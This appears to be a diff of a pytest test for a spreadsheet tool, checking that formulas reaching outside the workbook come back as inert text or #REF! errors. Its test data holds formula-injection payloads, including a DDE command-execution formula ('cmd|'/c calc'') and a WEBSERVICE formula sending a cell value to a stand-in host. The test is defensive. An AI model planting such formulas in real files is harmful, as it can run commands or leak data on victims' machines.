@@ -254,20 +254,24 @@ def _shared(path: str) -> None:
 
 
 @pytest.mark.parametrize("how", ["--marked", "--rejects"])
-def test_formulas_and_errors_come_back_as_what_they_were_and_are_refused_again(office: Desk, how: str) -> None:
-    texts = ["=A2&B2", "=A3&B3", "#N/A", "=elsewhere!A1", "=cmd|'/c calc'!A1", "=[1]x!A1", "=incidents!A2"]
+def test_formulas_and_errors_come_back_as_what_they_were_and_never_reach_out(office: Desk, how: str) -> None:
+    out = ["=elsewhere!A1", "=cmd|'/c calc'!A1", "=[1]x!A1", '=WEBSERVICE("http://x.example/"&A2)', '=RTD("x",,"y")']
+    texts = ["=A2&B2", "=A3&B3", "#N/A", "=incidents!A2", *out]
     lines: Lines = [["incident", "unit", "kind", "date", "channel", "text"]]
     lines += [[f"i{n}", "L1", "petition", "2012-03-05", "written", text] for n, text in enumerate(texts)]
     book = _book(office, "b.xlsx", {"incidents": lines})
     _shared(book)
     office("load", book, how, "again.xlsx")
     sheet = load_workbook("again.xlsx")["incidents"]
-    back = [(sheet[f"F{n}"].value, sheet[f"F{n}"].data_type) for n in range(2, 9)]
-    inside = ("=incidents!A2", "f") if how == "--marked" else ("#REF!", "e")
-    assert back == [("=A2&B2", "f"), ("=A3&B3", "f"), ("#N/A", "e"), *[("#REF!", "e")] * 3, inside]
-    said = _comments("again.xlsx", "incidents")["F5"] if how == "--marked" else str(sheet["G5"].value)
-    assert "=elsewhere!A1" in said
-    assert office("load", "again.xlsx").err.count("column text") == 7
+    back = [(sheet[f"F{n}"].value, sheet[f"F{n}"].data_type) for n in range(2, 11)]
+    if how == "--marked":  # what reaches for anything outside comes as its text
+        assert back == [("=A2&B2", "f"), ("=A3&B3", "f"), ("#N/A", "e"), ("=incidents!A2", "f"), *[(text, "s") for text in out]]
+        assert "its text stands here, and is not worked out" in _comments("again.xlsx", "incidents")["F6"]
+        assert office("load", "again.xlsx").err.count("column text") == 4
+    else:
+        assert back == [("=A2&B2", "f"), ("=A3&B3", "f"), ("#N/A", "e"), *[("#REF!", "e")] * 6]
+        assert "=elsewhere!A1" in str(sheet["G6"].value)
+        assert office("load", "again.xlsx").err.count("column text") == 9
 
 
 def test_text_that_begins_like_a_formula_stays_text(office: Desk) -> None:
